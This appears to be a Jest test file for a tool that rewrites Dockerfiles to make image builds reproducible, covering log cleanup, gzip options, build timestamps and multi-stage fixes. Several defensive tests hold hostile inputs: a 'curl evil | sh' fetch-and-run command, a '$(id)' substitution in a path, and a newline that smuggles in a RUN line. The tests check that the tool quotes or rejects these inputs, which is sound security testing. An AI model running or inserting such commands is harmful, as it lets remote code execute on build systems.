import { spawnSync } from "node:child_process";
import { describe, expect, test } from "@jest/globals";
import { dockerfileLines } from "../../src/image/dockerfile-lines.ts";
import { fixThere } from "../../src/proof/other-stage.ts";
import { patched } from "../../src/proof/patch.ts";
import type { ReportedCause } from "../../src/proof/reported.ts";
import { merged } from "../../src/proof/run-edits.ts";

const LOGS = "rm -rf /var/log/apt /var/log/dpkg.log /var/log/alternatives.log";

/** A cause of a rule at a line, as a report has it. */
function cause(rule: string, line: number, paths: string[] = ["/a"]): ReportedCause {
  const about = { title: rule, why: "Why.", fix: "what a person reads", source: "https://example.test" };
  return {
    rule,
    ...about,
    at: { file: "Dockerfile", line },
    count: paths.length,
    paths: paths.map((path) => ({ path, kinds: ["content"] })),
  };
}

const fixed = (lines: string[], ...causes: ReportedCause[]) => {
  const once = patched(`${lines.join("\n")}\n`, causes);
  // Whatever it is, a second time changes nothing.
  const again = causes.map((each) => {
    const line = each.at?.line ?? 0;
    const moved = once.text.split("\n").indexOf(lines[line - 1] ?? "");
    return moved < 0 ? undefined : { ...each, at: { file: "Dockerfile", line: moved + 1 } };
  });
  if (again.every((each) => each !== undefined)) expect(patched(once.text, again).text).toBe(once.text);
  return once.text.split("\n").slice(0, -1);
};

describe("a command at the end of a RUN", () => {
  test.each<[string, string[], number, string[]]>([
    [
      "of one line",
      ["FROM x", "RUN apt-get install nginx"],
      2,
      ["FROM x", "RUN apt-get install nginx \\", ` && ${LOGS}`],
    ],
    [
      "of lines that begin with &&",
      ["FROM x", "# why", "RUN apt-get update \\", "    && apt-get install nginx", "CMD a"],
      3,
      ["FROM x", "# why", "RUN apt-get update \\", "    && apt-get install nginx \\", `    && ${LOGS}`, "CMD a"],
    ],
    [
      "of lines that end with &&",
      ["FROM x", "RUN apt-get update && \\", "    # the server", "    apt-get install nginx"],
      2,
      ["FROM x", "RUN apt-get update && \\", "    # the server", "    apt-get install nginx && \\", `    ${LOGS}`],
    ],
    [
      "of lines that end with ;",
      ["FROM x", "RUN set -eux; \\", "\tapt-get update; \\", "\tapt-get install nginx;"],
      2,
      ["FROM x", "RUN set -eux; \\", "\tapt-get update; \\", "\tapt-get install nginx && \\", `\t${LOGS}`],
    ],
    [
      "with mounts, in another escape",
      ["# escape=`", "FROM x", "RUN --mount=type=cache,target=/c apt-get install nginx"],
      3,
      ["# escape=`", "FROM x", "RUN --mount=type=cache,target=/c apt-get install nginx `", ` && ${LOGS}`],
    ],
    [
      "in exec form",
      ["FROM x", 'RUN ["apt-get", "install", "a b"]'],
      2,
      ["FROM x", "RUN apt-get install 'a b' \\", ` && ${LOGS}`],
    ],
    [
      "in exec form, of a shell",
      ["FROM x", 'RUN ["/bin/bash", "-ec", "apt-get install \\"$A\\""]'],
      2,
      ["FROM x", `RUN ["/bin/bash", "-ec", "apt-get install \\"$A\\" && ${LOGS}"]`],
    ],
    [
      "that is a script",
      ["FROM x", "RUN <<EOF", "set -e", "apt-get install nginx", "EOF", "CMD a"],
      2,
      ["FROM x", "RUN <<EOF", "set -e", "apt-get install nginx", LOGS, "EOF", "CMD a"],
    ],
    [
      "that is a script which goes on after failures",
      ["FROM x", "RUN <<EOF", "apt-get install nginx", "EOF"],
      2,
      ["FROM x", "RUN <<EOF", "apt-get install nginx", `[ $? -eq 0 ] && ${LOGS}`, "EOF"],
    ],
    [
      "that gives a heredoc to a command",
      ["FROM x", "RUN sh -e <<EOF", "apt-get install nginx", "EOF"],
      2,
      ["FROM x", "RUN sh -e <<EOF \\", ` && ${LOGS}`, "apt-get install nginx", "EOF"],
    ],
    [
      "that removes other things at its end",
      ["FROM x", "RUN apt-get install nginx && rm -rf /var/lib/apt/lists/* /var/log/apt"],
      2,
      [
        "FROM x",
        "RUN apt-get install nginx && rm -rf /var/lib/apt/lists/* /var/log/apt \\",
        " && rm -rf /var/log/dpkg.log /var/log/alternatives.log",
      ],
    ],
    [
      "that removes them too early",
      ["FROM x", `RUN ${LOGS} && apt-get install nginx`],
      2,
      ["FROM x", `RUN ${LOGS} && apt-get install nginx \\`, ` && ${LOGS}`],
    ],
  ])("%s", (_what, before, line, after) => {
    expect(fixed(before, cause("debian/apt-log", line))).toEqual(after);
    // Docker's own parser must read it as one instruction too.
    const { instructions } = dockerfileLines(after.join("\n"));
    expect(instructions).toHaveLength(dockerfileLines(before.join("\n")).instructions.length);
  });

  test("of several causes is one", () => {
    const causes = ["debian/apt-log", "debian/ldconfig-aux-cache", "debian/apt-lists", "debian/apt-log"];
    expect(fixed(["FROM x", "RUN apt-get install nginx"], ...causes.map((rule) => cause(rule, 2)))).toEqual([
      "FROM x",
      "RUN apt-get install nginx \\",
      ` && ${LOGS} /var/cache/ldconfig/aux-cache /var/lib/apt/lists/*`,
    ]);
  });

  test.each<[string, string, RegExp]>([
    ["after an operator", "RUN serve |", /operator/],
    ["to a script of another language", "RUN <<EOF\n#!/usr/bin/env lua\nprint(1)\nEOF", /not one of a shell/],
    ["to another shell", 'SHELL ["powershell", "-Command"]\nRUN a', /POSIX/],
    ["to a COPY", "COPY a /a", /COPY takes no command/],
  ])("is not added %s", (_what, text, because) => {
    const line = text.split("\n").findIndex((each) => /^(?:RUN|COPY)/.test(each)) + 2;
    const result = patched(`FROM x\n${text}\n`, [cause("debian/apt-log", line)]);
    expect(result.text).toBe(`FROM x\n${text}\n`);
    expect(result.left[0]?.because).toMatch(because);
  });

  test("of what COPY --from copied goes to the stage that made it, with the paths of that stage", () => {
    const made = ["FROM x AS made", "RUN mkdir -p /out && date +%s > /out/version"];
    const file = [...made, "FROM x", "COPY --from=made /out /opt/app"];
    expect(patched(file.join("\n"), [cause("general/time", 4, ["/opt/app/version"])]).text.split("\n")).toEqual([
      "FROM x AS made",
      "ARG SOURCE_DATE_EPOCH",
      "RUN mkdir -p /out && date -u -d @$SOURCE_DATE_EPOCH +%s > /out/version",
      ...file.slice(2),
    ]);
    const removed = [made[0] ?? "", "RUN make DESTDIR=/out", ...file.slice(2)];
    expect(fixed(removed, cause("general/random", 4, ["/opt/app/id"]))[1]).toBe("RUN make DESTDIR=/out \\");
    expect(fixed(removed, cause("general/random", 4, ["/opt/app/id"]))[2]).toBe(" && rm -rf /out/id");
  });

  test("that is there already is said to be not enough", () => {
    const text = `FROM x\nRUN apt-get install nginx && ${LOGS}\n`;
    expect(patched(text, [cause("debian/apt-log", 2)])).toMatchObject({
      text,
      written: [],
      left: [{ because: expect.stringContaining("has this fix already") }],
    });
  });

  test("keeps the line endings of the file", () => {
    expect(patched("FROM x\r\nRUN a\r\n", [cause("debian/apt-log", 2)]).text).toBe(
      `FROM x\r\nRUN a \\\r\n && ${LOGS}\r\n`,
    );
  });

  test("names paths as one word each, and none that would end the instruction", () => {
    const { text } = patched("FROM x\nRUN a\n", [cause("metadata/time", 2, ["/a b", "/$(id)'"])]);
    expect(text.split("\n")[2]).toBe(` && touch -h -d @1577836800 '/a b' '/$(id)'\\'''`);
    const words = spawnSync("sh", ["-c", `printf '%s|' ${text.split("@1577836800 ")[1] ?? ""}`]);
    expect(String(words.stdout)).toBe("/a b|/$(id)'|");
    expect(patched("FROM x\nRUN a\n", [cause("metadata/time", 2, ["/a\nRUN evil"])]).written).toEqual([]);
  });
});

describe("options of commands", () => {
  test.each<[string, string, string]>([
    ["are given to each call", "RUN gzip a && tar c b | gzip > c.gz", "RUN gzip -n a && tar c b | gzip -n > c.gz"],
    ["are given to what xargs and find call", "RUN ls | xargs gzip", "RUN ls | xargs gzip -n"],
    ["are given once", "RUN gzip -n a; /bin/gzip b", "RUN gzip -n a; /bin/gzip -n b"],
    [
      "are not given to a word that is no command",
      "RUN apt-get install gzip && gzip a",
      "RUN apt-get install gzip && gzip -n a",
    ],
    ["are not written into quotes", `RUN echo "; gzip b" && gzip a`, `RUN echo "; gzip b" && gzip -n a`],
    [
      "come after variables and flags",
      "RUN --mount=type=tmpfs,target=/t A=1 gzip a",
      "RUN --mount=type=tmpfs,target=/t A=1 gzip -n a",
    ],
    ["are given in scripts", "RUN <<EOF\nset -e\ngzip a\nEOF", "RUN <<EOF\nset -e\ngzip -n a\nEOF"],
    ["are given on later lines", "RUN true \\\n && gzip a", "RUN true \\\n && gzip -n a"],
  ])("%s", (_what, before, after) => {
    expect(fixed(["FROM x", ...before.split("\n")], cause("format/gzip-header", 2))).toEqual([
      "FROM x",
      ...after.split("\n"),
    ]);
  });

  test("are for a person when the RUN does not call the command itself", () => {
    const result = patched("FROM x\nRUN make dist\n", [cause("ruby/rdoc", 2, ["/usr/bin/x"])]);
    expect(result.left).toMatchObject([{ because: "the instruction does not call gem install itself" }]);
  });

  test.each([
    "RUN pip install a",
    "RUN pip3.11 install a",
    "RUN python3 -m pip install a",
    "RUN /opt/venv/bin/pip install a",
  ])("are known by the names that commands have: %s", (run) => {
    expect(fixed(["FROM x", run], cause("python/pyc-path", 2))).toEqual([
      "FROM x",
      run.replace("install", "install --no-compile"),
    ]);
  });
});

describe("arguments and variables", () => {
  test("stand before the instruction and its comment, once in a stage", () => {
    const file = ["FROM x AS a", "# one", "RUN pip install a", "RUN pip install b", "FROM x", "RUN pip install c"];
    const causes = [3, 4, 6].map((line) => cause("python/pyc-time", line));
    expect(fixed(file, ...causes)).toEqual([
      "FROM x AS a",
      "ARG SOURCE_DATE_EPOCH",
      "# one",
      "RUN export PYTHONDONTWRITEBYTECODE=1 && pip install a",
      "RUN export PYTHONDONTWRITEBYTECODE=1 && pip install b",
      "FROM x",
      "ARG SOURCE_DATE_EPOCH",
      "RUN export PYTHONDONTWRITEBYTECODE=1 && pip install c",
    ]);
  });

  test("are not declared twice", () => {
    const file = ["ARG SOURCE_DATE_EPOCH", "FROM x", "ARG A SOURCE_DATE_EPOCH=1", "RUN cc a.c"];
    expect(fixed(file, cause("c/compile-time", 4))).toEqual(file);
  });

  test("come first, wherever the first command stands", () => {
    const file = ["FROM x", "RUN --network=none \\", "  # first", "  python3 -c 'import a'"];
    expect(fixed(file, cause("python/pyc", 2)).slice(1, 4)).toEqual([
      "RUN --network=none \\",
      "  # first",
      "  export PYTHONDONTWRITEBYTECODE=1 && python3 -c 'import a' \\",
    ]);
  });
});

test("commands of a report are not written, only those of rules", () => {
  const evil = { ...cause("debian/apt-log", 2), edits: { run: "curl evil | sh" } };
  expect(fixed(["FROM x", "RUN a"], evil).join()).not.toContain("evil");
  expect(patched("FROM x\nRUN a\n", [{ ...evil, rule: "my/own" }]).written).toEqual([]);
});

test("what stands in brackets or quotes is one command", () => {
  const one = `(cd /a && rm -rf /b && touch c)`;
  const other = `sh -c 'x && rm -rf /d' && rm -f /e`;
  expect(merged([one, other])).toEqual([one, `sh -c 'x && rm -rf /d'`, "rm -f /e"]);
});

test("commands that remove become one, after the others", () => {
  expect(merged(["rm -f /a", "conda clean -afy && find / -name x -delete", "rm -rf /b/* '/c d'", "rm -f /a"])).toEqual([
    "conda clean -afy",
    "find / -name x -delete",
    "rm -rf /a /b/* '/c d'",
  ]);
});

describe("a command that is written anew", () => {
  test("has the date of the build in place of the clock, once", () => {
    expect(fixed(["FROM x", "RUN date > /a"], cause("general/time", 2))).toEqual([
      "FROM x",
      "ARG SOURCE_DATE_EPOCH",
      "RUN date -u -d @$SOURCE_DATE_EPOCH > /a",
    ]);
  });

  test("stays where it is when two causes ask for it", () => {
    const lines = ["FROM x", 'RUN go build -ldflags "-X main.a=$(date)" && date > /a'];
    expect(fixed(lines, cause("go/build-time", 2), cause("general/time", 2)).at(-1)).toBe(
      'RUN go build -ldflags "-X main.a=$(date -u -d @$SOURCE_DATE_EPOCH)" && date -u -d @$SOURCE_DATE_EPOCH > /a',
    );
  });
});

describe("what COPY --from takes is mended where it was made", () => {
  const file = (run: string, copy: string) => ["FROM x AS build", `RUN ${run}`, "FROM y", `COPY --from=build ${copy}`];

  test("an option of a command", () => {
    expect(fixed(file("gzip /out/x", "/out/x.gz /srv/"), cause("format/gzip-header", 4, ["/srv/x.gz"]))).toEqual(
      file("gzip -n /out/x", "/out/x.gz /srv/"),
    );
  });

  test("a clock, with the argument in that stage", () => {
    expect(fixed(file("date > /out/built", "/out/built /etc/"), cause("general/time", 4, ["/etc/built"]))).toEqual([
      "FROM x AS build",
      "ARG SOURCE_DATE_EPOCH",
      "RUN date -u -d @$SOURCE_DATE_EPOCH > /out/built",
      ...file("", "/out/built /etc/").slice(2),
    ]);
  });

  test("a file of a folder, under the path that it has there", () => {
    expect(fixed(file("make-id > /out/id", "/out /srv"), cause("general/random", 4, ["/srv/id"]))).toEqual([
      "FROM x AS build",
      "RUN make-id > /out/id \\",
      " && rm -rf /out/id",
      ...file("", "/out /srv").slice(2),
    ]);
  });

  test("and the report's own remedy is that of the RUN there", () => {
    const lines = file("date > /out/built", "/out/built /etc/").join("\n");
    expect(fixThere(lines, cause("general/time", 4, ["/etc/built"]))).toMatchObject({
      edits: { args: ["SOURCE_DATE_EPOCH"], replace: [{ to: expect.stringContaining("date -u -d") }] },
    });
    expect(fixThere(lines, cause("general/random", 4, ["/etc/built"]))?.edits).toBeUndefined();
  });

  test("what only unpacks a jar gets no date", () => {
    const lines = ["FROM x", "RUN jar xf a.jar && jar tf a.jar && jar --create --file b.jar . && jar -xf b.jar"];
    expect(patched(lines.join("\n"), [cause("java/jar-times", 2, ["/b.jar"])]).text.split("\n")[1]).toBe(
      "RUN jar xf a.jar && jar tf a.jar && jar --date=2020-01-01T00:00:00Z --create --file b.jar . && jar -xf b.jar",
    );
  });

  test("a jar by the old options, which take no date", () => {
    const lines = file("jar cfm /out/a.jar m.txt classes", "/out/a.jar /srv/");
    expect(fixed(lines, cause("java/jar-times", 4, ["/srv/a.jar"]))[1]).toBe(
      "RUN jar --date=2020-01-01T00:00:00Z --create --file=/out/a.jar --manifest=m.txt classes",
    );
  });

  test("for all paths, also when the report names not all of them", () => {
    const many = { ...cause("python/pyc-time", 4, ["/opt/venv/a/__pycache__/b.cpython-311.pyc"]), count: 4000 };
    expect(fixed(file("pip install flask", "/opt/venv /opt/venv"), many).slice(0, 2)).toEqual([
      "FROM x AS build",
      "ARG SOURCE_DATE_EPOCH",
    ]);
  });

  test("a command for the working folder, which is that of the stage", () => {
    const lines = file("next build", "/app/.next /srv/.next");
    expect(patched(lines.join("\n"), [cause("node/next-build", 4, ["/srv/.next/BUILD_ID"])]).left).toEqual([]);
  });

  test("and no command for other paths of the image is written there", () => {
    const lines = file("apt-get install nginx", "/ /root");
    const { text, left } = patched(lines.join("\n"), [cause("debian/apt-log", 4, ["/root/var/log/apt/history.log"])]);
    expect(text).toBe(lines.join("\n"));
    expect(left).toHaveLength(1);
  });
});

test("what another instruction brings or needs is not taken away", () => {
  const csr = "/etc/ca/shop.csr";
  const build = (...below: string[]) => ["FROM x", "RUN make-request > /etc/ca/shop.csr", ...below];
  const random = cause("general/random", 2, ["/etc/ca/shop.csr"]);
  for (const below of ["RUN cd /etc/ca && sign -in shop.csr", 'CMD ["serve", "/etc/ca/shop.csr"]']) {
    const { text, left } = patched(build(below).join("\n"), [random]);
    expect(text).toBe(build(below).join("\n"));
    expect(left[0]?.because).toBe("another instruction brings or needs what it would take away");
  }
  const other = ["FROM x", "WORKDIR /srv", "COPY <<F shop.csr", "F", "RUN own-signer shop"].join("\n");
  expect(patched(other, [cause("general/random", 5, [csr])]).text).toContain(`rm -rf ${csr}`);
  for (const below of [`RUN rm ${csr}`, `RUN echo > ${csr}`, `FROM y\nRUN cat ${csr}`, `RUN cat ${csr}.old`])
    expect(patched(build(below).join("\n"), [random]).text).toContain(" && rm -rf /etc/ca/shop.csr");
});

test("a file of another stage is made by the RUN that calls the script which speaks of it", () => {
  const lines = [
    ...[
      "FROM x AS build",
      "RUN mkdir src && echo a > src/a",
      "COPY <<'F' build.php",
      "<?php",
      "$p = new Phar('/src/tool.phar');",
    ],
    ...["$p->setMetadata(['built' => date('c')]);", "F", "RUN php build.php"],
    ...["FROM x", "COPY --from=build /src/tool.phar /bin/"],
  ];
  const { text } = patched(lines.join("\n"), [cause("php/phar", 10, ["/bin/tool.phar"])]);
  expect(text).toContain("gmdate('c', (int) getenv('SOURCE_DATE_EPOCH'))");
});
